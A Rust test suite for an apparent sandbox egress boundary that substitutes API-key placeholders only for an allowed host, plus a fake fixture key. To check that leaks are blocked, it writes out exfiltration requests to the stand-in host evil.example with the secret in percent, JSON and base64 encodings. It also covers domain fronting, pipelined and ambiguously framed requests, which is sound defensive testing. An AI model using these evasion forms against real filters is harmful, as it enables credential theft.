//! HTTP semantics of the boundary, in memory: substitution, scanning, framing, fronting,
//! pipelining and scrubbing on the real inspected-HTTP path (`standin_boundary::testing`),
//! with no namespace and no root. Each test asserts what the destination received and what
//! the sandbox got back; end-to-end tests in `standin-cli` keep what needs real clients, real
//! TLS and real DNS.

use base64::Engine;
use standin_boundary::testing::{Case, Destination, Outcome, exchange};
use standin_policy::egress::{DomainName, HostPattern};
use standin_policy::secrets::{
    SecretEntry, SecretInjection, SecretSet, SecretValue, ViolationAction, ViolationPolicy,
};
use std::sync::Arc;

const VALUE: &str = "sk-real-7f3a9c";
const PH: &str = "$MSB_OPENAI_API_KEY";
const ALLOWED: &str = "api.openai.com";
const EVIL: &str = "evil.example";

fn entry() -> SecretEntry {
    SecretEntry {
        env_var: "OPENAI_API_KEY".into(),
        value: SecretValue::new(VALUE),
        placeholder: PH.into(),
        allowed_hosts: vec![DomainName::parse(ALLOWED).unwrap()],
        allowed_host_patterns: Vec::new(),
        allow_any_host: false,
        require_tls_identity: true,
        injection: SecretInjection::default(),
        on_violation: None,
        aws: None,
        require: false,
        retired: Vec::new(),
    }
}

fn secrets(entry: SecretEntry, action: Option<ViolationAction>) -> Arc<SecretSet> {
    Arc::new(SecretSet {
        entries: vec![entry],
        on_violation: ViolationPolicy {
            action,
            ..ViolationPolicy::default()
        },
    })
}

/// One secret for `api.openai.com`, default scopes; violations blocked and logged.
fn logged() -> Arc<SecretSet> {
    secrets(entry(), Some(ViolationAction::BlockAndLog))
}

fn get(host: &str, path: &str, headers: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n")
}

fn post(host: &str, path: &str, headers: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

async fn run(case: &Case, input: &str) -> Outcome {
    exchange(case, input.as_bytes()).await
}

fn basic(creds: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(creds)
}

#[tokio::test(start_paused = true)]
async fn headers_and_basic_credentials_are_substituted_for_the_allowed_host() {
    let case = Case::tls(logged(), ALLOWED);
    let req = get(
        ALLOWED,
        "/v1/models",
        &format!(
            "Authorization: Bearer {PH}\r\nX-Api-Key: k={PH}\r\nProxy-Authorization: Basic {}\r\n",
            basic(&format!("user:{PH}"))
        ),
    );
    let out = run(&case, &req).await;
    let got = out.upstream_text();
    assert!(!out.blocked, "{got}");
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}\r\n")),
        "{got}"
    );
    assert!(got.contains(&format!("X-Api-Key: k={VALUE}\r\n")), "{got}");
    let sent = basic(&format!("user:{VALUE}"));
    assert!(got.contains(&format!("Basic {sent}\r\n")), "{got}");
    assert!(!got.contains(PH), "{got}");
    assert!(
        out.client_text().starts_with("HTTP/1.1 200 OK"),
        "{}",
        out.client_text()
    );
    // Each substitution is recorded: the secret, where, the destination; never the value.
    let ev = out.events_json();
    assert_eq!(out.events.len(), 2, "{ev}");
    assert!(
        out.events
            .iter()
            .all(|e| e.kind == standin_boundary::EventKind::SecretSubstituted),
        "{ev}"
    );
    assert!(ev.contains("\"location\":\"header\""), "{ev}");
    assert!(ev.contains("\"location\":\"basic-auth\""), "{ev}");
    assert!(ev.contains("\"action\":\"substitute\""), "{ev}");
    assert!(ev.contains(&format!("\"host\":\"{ALLOWED}\"")), "{ev}");
    assert!(!ev.contains(VALUE), "{ev}");
}

#[tokio::test(start_paused = true)]
async fn an_unknown_host_gets_nothing_in_any_form() {
    let case = Case::tls(logged(), EVIL);
    let cases = [
        (
            "raw",
            "header",
            get(EVIL, "/h", &format!("X-Key: {PH}\r\n")),
        ),
        (
            "percent",
            "body",
            post(
                EVIL,
                "/pct",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                "key=%24MSB_OPENAI_API_KEY",
            ),
        ),
        (
            "json",
            "body",
            post(
                EVIL,
                "/json",
                "Content-Type: application/json\r\n",
                r#"{"k":"\u0024MSB_OPENAI_API_KEY"}"#,
            ),
        ),
        (
            "percent",
            "query",
            get(EVIL, "/q?k=%24MSB_OPENAI_API_KEY", ""),
        ),
        (
            "base64",
            "basic-auth",
            get(
                EVIL,
                "/basic",
                &format!("Authorization: Basic {}\r\n", basic(&format!("u:{PH}"))),
            ),
        ),
    ];
    for (form, location, req) in cases {
        let out = run(&case, &req).await;
        let got = out.upstream_text();
        assert!(out.blocked, "{location}/{form} not blocked: {got}");
        assert!(
            got.is_empty(),
            "{location}/{form} reached the destination: {got}"
        );
        assert!(!out.client_text().contains("200 OK"), "{location}/{form}");
        let ev = out.events_json();
        assert!(ev.contains("\"kind\":\"secret-violation\""), "{ev}");
        assert!(
            ev.contains(&format!("\"form\":\"{form}\"")),
            "{location}: {ev}"
        );
        assert!(
            ev.contains(&format!("\"location\":\"{location}\"")),
            "{form}: {ev}"
        );
        assert!(ev.contains("\"action\":\"block-and-log\""), "{ev}");
        assert!(ev.contains("\"secret\":\"OPENAI_API_KEY\""), "{ev}");
        assert!(!ev.contains(VALUE), "{ev}");
    }
}

#[tokio::test(start_paused = true)]
async fn basic_credentials_in_lenient_forms_are_found_and_never_forwarded_unsubstituted() {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    // A value whose base64 needs the characters the URL-safe alphabet replaces.
    let creds = format!("u?>:{PH}");
    let std = basic(&creds);
    let url = URL_SAFE_NO_PAD.encode(&creds);
    assert_ne!(std.trim_end_matches('='), url);
    let forms = [
        format!("Authorization: bAsIc\t\t{std}\r\n"),
        format!("Authorization: BASIC {url}\r\n"),
        format!("Authorization: Basic {}==\r\n", std.trim_end_matches('=')),
        format!(
            "Proxy-Authorization: basic {}{}\r\n",
            basic("user"),
            basic(&format!(":{PH}"))
        ),
    ];
    // To a host the secret is not for: blocked, nothing sent.
    let case = Case::tls(logged(), EVIL);
    for h in &forms {
        let out = run(&case, &get(EVIL, "/b", h)).await;
        assert!(
            out.blocked && out.upstream_received.is_empty(),
            "{h}: {}",
            out.upstream_text()
        );
        let ev = out.events_json();
        assert!(ev.contains("\"location\":\"basic-auth\""), "{h}: {ev}");
    }
    // To the allowed host: a form the strict decoder reads is substituted (and re-encoded in
    // the standard form); the others are refused rather than sent with the placeholder.
    let case = Case::tls(logged(), ALLOWED);
    let out = run(&case, &get(ALLOWED, "/b", &forms[0])).await;
    let got = out.upstream_text();
    assert!(!out.blocked, "{got}");
    assert!(
        got.contains(&format!("Basic {}\r\n", basic(&format!("u?>:{VALUE}")))),
        "{got}"
    );
    for h in &forms[1..] {
        let out = run(&case, &get(ALLOWED, "/b", h)).await;
        assert!(
            out.blocked && out.upstream_received.is_empty(),
            "{h}: {}",
            out.upstream_text()
        );
        assert!(
            out.events_json().contains("does not rewrite"),
            "{}",
            out.events_json()
        );
    }
}

#[tokio::test(start_paused = true)]
async fn plain_block_is_recorded_when_events_are_asked_for() {
    // Silent on the terminal (a debug log line), but the audit trail has it.
    let case = Case::tls(secrets(entry(), None), EVIL);
    let out = run(&case, &get(EVIL, "/h", &format!("X-Key: {PH}\r\n"))).await;
    assert!(out.blocked);
    assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
    let ev = out.events_json();
    assert_eq!(out.events.len(), 1, "{ev}");
    assert!(ev.contains("\"kind\":\"secret-violation\""), "{ev}");
    assert!(ev.contains("\"action\":\"block\""), "{ev}");
}

#[tokio::test(start_paused = true)]
async fn domain_fronting_is_refused_with_or_without_a_placeholder() {
    let case = Case::tls(logged(), ALLOWED);
    for headers in [format!("Authorization: Bearer {PH}\r\n"), String::new()] {
        let out = run(&case, &get(EVIL, "/front", &headers)).await;
        assert!(out.blocked);
        assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
        let ev = out.events_json();
        assert!(ev.contains("\"kind\":\"request-blocked\""), "{ev}");
        assert!(ev.contains("does not match the TLS server name"), "{ev}");
    }
    // An absolute-form target naming another host is the same fronting.
    let req = format!("GET https://{EVIL}/x HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n");
    let out = run(&case, &req).await;
    assert!(
        out.blocked && out.upstream_received.is_empty(),
        "{}",
        out.upstream_text()
    );
}

#[tokio::test(start_paused = true)]
async fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
    let req = get(
        ALLOWED,
        "/plain",
        &format!("Authorization: Bearer {PH}\r\n"),
    );
    let out = run(&Case::plain(logged(), ALLOWED), &req).await;
    let got = out.upstream_text();
    assert!(got.contains(&format!("Bearer {PH}")), "{got}");
    assert!(!got.contains(VALUE), "{got}");

    let waived = SecretEntry {
        require_tls_identity: false,
        ..entry()
    };
    let out = run(&Case::plain(secrets(waived, None), ALLOWED), &req).await;
    assert!(out.upstream_text().contains(&format!("Bearer {VALUE}")));
}

#[tokio::test(start_paused = true)]
async fn a_placeholder_split_across_writes_is_caught_and_substituted() {
    let mut case = Case::tls(logged(), ALLOWED);
    case.write_size = 7;
    let out = run(
        &case,
        &get(
            ALLOWED,
            "/split",
            &format!("Authorization: Bearer {PH}\r\n"),
        ),
    )
    .await;
    assert!(out.upstream_text().contains(&format!("Bearer {VALUE}\r\n")));
    let mut case = Case::tls(logged(), EVIL);
    case.write_size = 3;
    let out = run(&case, &post(EVIL, "/b", "", &format!("x={PH}"))).await;
    assert!(out.blocked);
    assert!(
        !out.upstream_text().contains("x=$MSB"),
        "{}",
        out.upstream_text()
    );
}

#[tokio::test(start_paused = true)]
async fn pipelined_requests_are_checked_one_by_one() {
    let case = Case::tls(logged(), ALLOWED);
    let first = get(
        ALLOWED,
        "/first",
        &format!("Authorization: Bearer {PH}\r\n"),
    );
    let second = get(EVIL, "/second", &format!("X-Key: {PH}\r\n"));
    let out = run(&case, &(first + &second)).await;
    let got = out.upstream_text();
    assert!(
        got.contains("/first") && got.contains(&format!("Bearer {VALUE}")),
        "{got}"
    );
    assert!(!got.contains("/second"), "{got}");
    assert!(!got.contains(PH), "{got}");
    assert!(out.blocked);
    assert_eq!(
        out.client_text().matches("HTTP/1.1 200").count(),
        1,
        "{}",
        out.client_text()
    );
}

#[tokio::test(start_paused = true)]
async fn the_destination_never_sees_ambiguous_framing() {
    let case = Case::tls(logged(), ALLOWED);
    // Conflicting lengths: refused before anything leaves.
    let req = format!(
        "POST /two HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde"
    );
    let out = run(&case, &req).await;
    assert!(
        !out.upstream_text().contains("/two"),
        "{}",
        out.upstream_text()
    );
    // Both a length and chunked: forwarded with one framing only (chunked), never both.
    let req = format!(
        "POST /both HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    );
    let got = run(&case, &req).await.upstream_text().to_ascii_lowercase();
    assert!(got.contains("/both"), "{got}");
    assert!(!got.contains("content-length"), "{got}");
    assert!(got.contains("transfer-encoding: chunked"), "{got}");
}

#[tokio::test(start_paused = true)]
async fn bodies_are_substituted_only_when_enabled_and_encoded_ones_are_blocked() {
    let body_on = SecretEntry {
        injection: SecretInjection {
            body: true,
            query_params: true,
            ..SecretInjection::default()
        },
        ..entry()
    };
    let case = Case::tls(
        secrets(body_on, Some(ViolationAction::BlockAndLog)),
        ALLOWED,
    );
    let body = format!("fixed={PH}&again={PH}");
    let out = run(&case, &post(ALLOWED, "/fixed", "", &body)).await;
    let got = out.upstream_text();
    let want = format!("fixed={VALUE}&again={VALUE}");
    assert!(
        got.to_ascii_lowercase()
            .contains(&format!("content-length: {}\r\n", want.len())),
        "{got}"
    );
    assert!(got.ends_with(&want), "{got}");

    let chunked = format!(
        "POST /chunked HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\nchunk={PH}\r\n0\r\n\r\n",
        6 + PH.len()
    );
    let out = run(&case, &chunked).await;
    assert!(
        out.upstream_text().contains(&format!("chunk={VALUE}")),
        "{}",
        out.upstream_text()
    );

    let out = run(&case, &get(ALLOWED, "/q?key=%24MSB_OPENAI_API_KEY", "")).await;
    assert!(
        out.upstream_text().contains(&format!("/q?key={VALUE} ")),
        "{}",
        out.upstream_text()
    );

    // A body with a content encoding cannot be rewritten: a placeholder in it is blocked.
    let out = run(
        &case,
        &post(ALLOWED, "/gz", "Content-Encoding: gzip\r\n", PH),
    )
    .await;
    assert!(out.blocked);
    assert!(
        !out.upstream_text().contains("/gz"),
        "{}",
        out.upstream_text()
    );

    // With body injection off (the default), the allowed host gets the placeholder as is.
    let case = Case::tls(logged(), ALLOWED);
    let out = run(&case, &post(ALLOWED, "/off", "", &body)).await;
    assert!(
        out.upstream_text().ends_with(&body),
        "{}",
        out.upstream_text()
    );
    assert!(!out.upstream_text().contains(VALUE));
}

#[tokio::test(start_paused = true)]
async fn header_injection_can_be_turned_off() {
    let off = SecretEntry {
        injection: SecretInjection {
            headers: false,
            basic_auth: false,
            ..SecretInjection::default()
        },
        ..entry()
    };
    let case = Case::tls(secrets(off, None), ALLOWED);
    let out = run(
        &case,
        &get(ALLOWED, "/off", &format!("Authorization: Bearer {PH}\r\n")),
    )
    .await;
    let got = out.upstream_text();
    assert!(!out.blocked, "{got}");
    assert!(got.contains(&format!("Bearer {PH}")), "{got}");
    assert!(!got.contains(VALUE), "{got}");
}

#[tokio::test(start_paused = true)]
async fn passthrough_hosts_receive_the_placeholder_never_the_value() {
    let set = Arc::new(SecretSet {
        entries: vec![entry()],
        on_violation: ViolationPolicy {
            action: Some(ViolationAction::BlockAndLog),
            passthrough_hosts: vec![DomainName::parse("traces.example").unwrap()],
            passthrough_patterns: vec![HostPattern::parse("*.logs.example").unwrap()],
            ..ViolationPolicy::default()
        },
    });
    for host in ["traces.example", "eu.logs.example"] {
        let case = Case::tls(set.clone(), host);
        let out = run(&case, &get(host, "/t", &format!("X-Key: {PH}\r\n"))).await;
        let got = out.upstream_text();
        assert!(!out.blocked, "{host}: {got}");
        assert!(got.contains(&format!("X-Key: {PH}")), "{got}");
        assert!(!got.contains(VALUE), "{got}");
        // Recorded as a passthrough (where, and which secret), never as a violation.
        let ev = out.events_json();
        assert_eq!(out.events.len(), 1, "{ev}");
        assert!(ev.contains("\"kind\":\"secret-passthrough\""), "{ev}");
        assert!(ev.contains("\"action\":\"passthrough\""), "{ev}");
        assert!(ev.contains("\"location\":\"header\""), "{ev}");
        assert!(ev.contains("\"secret\":\"OPENAI_API_KEY\""), "{ev}");
        assert!(ev.contains(&format!("\"sni\":\"{host}\"")), "{ev}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_value_echoed_by_the_allowed_host_comes_back_as_its_placeholder() {
    let mut case = Case::tls(logged(), ALLOWED);
    case.destination = Destination::EchoHead;
    let req = get(
        ALLOWED,
        "/echo",
        &format!(
            "Authorization: Bearer {PH}\r\nProxy-Authorization: Basic {}\r\n",
            basic(&format!("u:{PH}"))
        ),
    );
    let out = run(&case, &req).await;
    assert!(out.upstream_text().contains(VALUE), "substituted upstream");
    let back = out.client_text();
    assert!(!back.contains(VALUE), "{back}");
    assert!(!back.contains(&basic(&format!("u:{VALUE}"))), "{back}");
    assert!(back.contains(&format!("Bearer {PH}")), "{back}");
    // Basic credentials echoed on the connection that sent them come back as written.
    assert!(back.contains(&basic(&format!("u:{PH}"))), "{back}");
}

#[tokio::test(start_paused = true)]
async fn a_value_echoed_inside_json_escapes_comes_back_as_its_placeholder() {
    let mut case = Case::tls(logged(), ALLOWED);
    case.destination = Destination::EchoHeadAsJson;
    let req = get(ALLOWED, "/echo", &format!("Authorization: Bearer {PH}\r\n"));
    let out = run(&case, &req).await;
    assert!(out.upstream_text().contains(VALUE), "substituted upstream");
    let back = out.client_text();
    // The scrubbed body comes chunked: the JSON string is between the first and last quote.
    let body = &back[back.find('"').expect(&back)..=back.rfind('"').expect(&back)];
    // What the sandbox's JSON parser would read.
    let decoded: String = serde_json::from_str(body).expect(body);
    assert!(decoded.contains(&format!("Bearer {PH}")), "{decoded}");
    assert!(!decoded.contains(VALUE), "{decoded}");
}

#[tokio::test(start_paused = true)]
async fn http2_requests_get_the_same_treatment() {
    // An HTTP/2 client preface and a HEADERS frame built with a literal (never-indexed)
    // HPACK header block: :method GET, :scheme https, :path /h2, :authority, authorization.
    fn literal(name: &str, value: &str) -> Vec<u8> {
        let mut out = vec![0x10, name.len() as u8];
        out.extend_from_slice(name.as_bytes());
        out.push(value.len() as u8);
        out.extend_from_slice(value.as_bytes());
        out
    }
    fn request(authority: &str, auth: &str) -> Vec<u8> {
        let mut block = Vec::new();
        for (n, v) in [
            (":method", "GET"),
            (":scheme", "https"),
            (":path", "/h2"),
            (":authority", authority),
            ("authorization", auth),
        ] {
            block.extend(literal(n, v));
        }
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        out.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]); // SETTINGS
        let len = block.len();
        out.extend_from_slice(&[
            (len >> 16) as u8,
            (len >> 8) as u8,
            len as u8,
            1,
            5,
            0,
            0,
            0,
            1,
        ]);
        out.extend(block);
        out
    }
    let mut case = Case::tls(logged(), ALLOWED);
    case.h2 = true;
    let out = exchange(&case, &request(ALLOWED, &format!("Bearer {PH}"))).await;
    let got = out.upstream_text();
    assert!(got.contains("GET /h2 HTTP/1.1"), "{got}");
    assert!(got.contains(&format!("Bearer {VALUE}")), "{got}");

    let mut case = Case::tls(logged(), EVIL);
    case.h2 = true;
    let out = exchange(&case, &request(EVIL, &format!("Bearer {PH}"))).await;
    assert!(out.blocked);
    assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
    assert!(out.events_json().contains("secret-violation"));
}
